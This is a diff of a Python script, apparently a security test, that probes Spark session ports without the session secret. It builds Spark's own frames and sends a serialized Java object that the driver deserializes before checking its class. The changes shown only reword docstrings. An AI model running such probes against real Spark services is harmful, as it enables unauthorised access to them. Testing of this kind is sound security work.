@@ -1,6 +1,6 @@
-"""Attacks the ports of a Spark session without its secret; a script of the standard library alone.
+"""Attack on the ports of a Spark session without its secret; a script of the standard library alone.
 
-``python port_attack.py UID PORT…`` becomes that user for good, unless it is itself, and prints a line of JSON for each
+``python port_attack.py UID PORT…`` changes to that user for good, and prints a line of JSON for each
 message: the port, the message, the kind of the answer and its bytes. The frames are Spark's own
 (common/network-common, ``MessageEncoder``): a length of eight bytes that counts itself, a byte for the kind, the body.
 Each has the end of a line in it, for py4j, which reads lines.
@@ -55,7 +55,7 @@ def read_blocks(channel: socket.socket, _: int) -> "tuple[int, bytes]":
 
 
 def call_endpoint(channel: socket.socket, port: int) -> "tuple[int, bytes]":
-    """Send the driver a Java object, which it reads before it knows what it is."""
+    """Send a Java object to the driver, which deserializes it before any check of its class."""
     host, name = b"127.0.0.1", b"endpoint-verifier"
     receiver = b"\1" + struct.pack(">H", len(host)) + host + struct.pack(">i", port)
     return _call(channel, b"\0" + receiver + struct.pack(">H", len(name)) + name + b"\xac\xed\0\5t\0\5hell\n")
